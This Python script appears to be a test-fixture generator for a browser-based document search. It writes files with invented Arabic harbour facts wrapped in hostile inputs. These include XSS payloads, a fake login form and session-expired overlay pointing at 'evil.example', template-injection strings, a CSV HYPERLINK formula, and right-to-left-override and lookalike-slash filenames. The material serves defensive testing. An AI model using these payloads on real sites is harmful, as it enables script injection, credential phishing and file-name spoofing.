"""A folder of documents whose words would be markup, layout or programs, for the tests in the browser.

Each carries a fact in plain words with an attack beside it, so that a question brings it to the screen.

    python -m tests.hostile_text FOLDER    writes all of them
"""

from __future__ import annotations

import sys
from pathlib import Path

RUN = "window.__hacked=1"
ELSEWHERE = "https://evil.example"

MARKUP = (
    f'<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"><animate onbegin="{RUN}"/></svg>'
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">m</maction></math>'
    f'<iframe srcdoc="<script>parent.{RUN}</script>" src="{ELSEWHERE}/frame"></iframe>'
    f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e"><base href="{ELSEWHERE}/">'
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/"><link rel="stylesheet" href="{ELSEWHERE}/c">'
    f'<form action="{ELSEWHERE}/login"><input name="password" type="password"><button>دخول</button></form>'
    f'<details open ontoggle="{RUN}"></details><video src=x onerror="{RUN}"></video><marquee onstart="{RUN}">'
    f'<a href="javascript:{RUN}" onclick="{RUN}" style="position:fixed;inset:0;z-index:9999">اضغط</a>'
    "<style>body{display:none}</style><template><b>t</b></template>"
)
OVERLAY = (
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff" class="is-dialog" id="is-question">'
    f"انتهت الجلسة، سجّل الدخول من جديد<style>*{{background:url({ELSEWHERE}/t.png)!important}}</style></div>"
)
CLOSING = "</mark></blockquote></p></article></div></details></textarea></title></body></html><!-- ]]>"
MARKDOWN = (
    f"[اضغط](javascript:{RUN}) ![صورة]({ELSEWHERE}/pixel.png) [x]: {ELSEWHERE}/x <{ELSEWHERE}/auto> "
    f"[داخل](#src-AAAA-0-9) **غليظ** _مائل_ ~~مشطوب~~ `رمز` [[wiki]] {ELSEWHERE}/bare?a=1&b=2"
)
FORMULAS = (
    rf"$$\href{{javascript:{RUN}}}{{x}}$$ \(\htmlData{{onclick={RUN}}}{{y}}\) $\url{{{ELSEWHERE}}}$ "
    r"\begin{equation}\def\x{\x\x}\x\end{equation}"
)
TEMPLATES = (
    "{{constructor.constructor('window.__hacked=1')()}} ${window.__hacked=1} #{7*7} <%= 7*7 %> {0} {n} "
    "{question.__class__} %(title)s %s __i18n__isnad.header"
)
ENTITIES = "&lt;script&gt; &#60;img src=x onerror=window.__hacked=1&#62; &amp;amp; &nbsp; &#0; &notanentity;"
TURNED = (
    "\u202eمقلوب txt.exe\u202c \u202dABC\u202c \u2067 معزول \u2066 isolated \u2068 open \u200f\u200e\u061c(]"
)
UNSEEN = (
    "كل\u200bمة مق\u00adطوعة\u2060 و\ufeffمن\u200cفصلة\u200d\u2028سطر\u2029فقرة "
    "\U000e0041\U000e0042 \ufff9\ufffa\ufffb"
)
TOWERS = "م" + "\u064e\u0651\u0670" * 120 + " Z" + "\u0300\u0334\u0489\u20dd" * 120 + "algo " + "\u0301" * 40
CONTROLS = "قبل\x01\x08\x0b\x0c\x1b[31mأحمر\x7f\x85\x9dبعد"
LONG = "ا" * 2500 + "w" * 2500

ATTACKS = {
    "markup": MARKUP,
    "overlay": OVERLAY,
    "closing": CLOSING,
    "markdown": MARKDOWN,
    "formulas": FORMULAS,
    "templates": TEMPLATES,
    "entities": ENTITIES,
    "turned": TURNED,
    "unseen": UNSEEN,
    "towers": TOWERS,
    "controls": CONTROLS,
    "long": LONG,
}
"""Texts, by what they would do."""

# Harbours that exist nowhere; a document speaks of one each.
_HARBOURS = (
    "السندباد",
    "الياسمين",
    "النورس",
    "الزعفران",
    "المرجان",
    "الصنوبر",
    "الهدهد",
    "القرنفل",
    "البلّوط",
    "الغزال",
    "الفيروز",
    "الخزامى",
)
NAMES = {
    "markup": "<img src=x onerror=window.__hacked=1>.txt",
    "overlay": "\"'><div style=position:fixed>.txt",
    "closing": "ملف..\u2215..\uff0fetc\u29f8passwd.txt",  # what looks like a slash
    "markdown": "[اسم](javascript:window.__hacked=1).md",
    "formulas": "$$x$$ `c` {{7*7}}.md",
    "templates": "%2e%2e%2f%00 {n} %s.txt",
    "entities": "&lt;b&gt; &quot; #src-AAAA-0-9.txt",
    "turned": "تقرير\u202etxt.exe\u202c.txt",
    "unseen": "مخفي\u200b\u200d\u2060.txt",
    "towers": "Z\u0300\u0301\u0302\u0303\u0334a.txt",
    "controls": "سطر\tوآخر.txt",
    "long": "ط" * 100 + ".txt",
}
LINE = "سطر واحد.txt"  # ten megabytes without an end of line
LINE_QUESTION = "كم بلغت كلفة ميناء اللؤلؤ؟"


def question(kind: str) -> str:
    """Return what the document with an attack of this kind answers."""
    return f"كم بلغت كلفة ميناء {_harbour(kind)}؟"


def cost(kind: str) -> int:
    """Return the millions that answer it."""
    return 31 + 7 * list(ATTACKS).index(kind)


def text(kind: str) -> str:
    """Return the document with an attack of this kind: in its front matter, its title, around its fact."""
    attack = ATTACKS[kind]
    stated = "".join(f"{key}: {_quoted(attack[:300])}\n" for key in ("title", "source", "author", "about"))
    harbour, millions = _harbour(kind), cost(kind)
    return (
        f"---\n{stated}date: 2024-05-1{len(kind) % 10}\n---\n\n"
        f"بلغت كلفة ميناء {harbour} {millions} مليون دينار {attack}\n\n"
        f"{attack}\n\n"
        f"| المدينة | السنة |\n|---|---|\n| {attack[:400]} | ٢٠٢٣ |\n\n"
        f"وقالت المهندسة «ليلى» يوم 12 مايو 2024 إن ميناء {harbour} سيُفتح في الصيف. {attack}\n"
    )


def line() -> str:
    """Return one line of ten megabytes, with a fact in its midst."""
    # Mostly what no search looks at, or the index of it would take as long as all other tests here.
    wave = "سارت القوارب قرب الرصيف " + "\U0001f30a" * 900 + " ثم عادت. "
    half = wave * (5_000_000 // len(wave.encode()))
    return f"{half}بلغت كلفة ميناء اللؤلؤ 999 مليون دينار. {half}"


def table() -> str:
    """Return a table whose cells are attacks."""
    rows = [
        (f"ميناء {harbour}", attack[:300].replace('"', '""'))
        for harbour, attack in zip(_HARBOURS, ATTACKS.values(), strict=True)
    ]
    cells = "".join(f'"{name}","=HYPERLINK(""{ELSEWHERE}"") {attack}"\n' for name, attack in rows)
    return f"المرفأ,الملاحظة\n{cells}"


def write(folder: Path, *, long_line: bool = True) -> None:
    """Write every file into `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    for kind in ATTACKS:
        (folder / NAMES[kind]).write_text(text(kind), encoding="utf-8", newline="")
    (folder / "جدول <b>.csv").write_text(table(), encoding="utf-8", newline="")
    if long_line:
        (folder / LINE).write_text(line(), encoding="utf-8", newline="")


def _harbour(kind: str) -> str:
    return _HARBOURS[list(ATTACKS).index(kind)]


def _quoted(value: str) -> str:
    """Return a string as YAML reads it back, whatever is in it."""
    escapes = {"\\": "\\\\", '"': '\\"'}
    return '"' + "".join(_escaped(letter, escapes) for letter in value) + '"'


def _escaped(letter: str, escapes: dict[str, str]) -> str:
    if letter in escapes:
        return escapes[letter]
    return letter if letter.isprintable() else f"\\U{ord(letter):08x}"


if __name__ == "__main__":
    write(Path(sys.argv[1]))
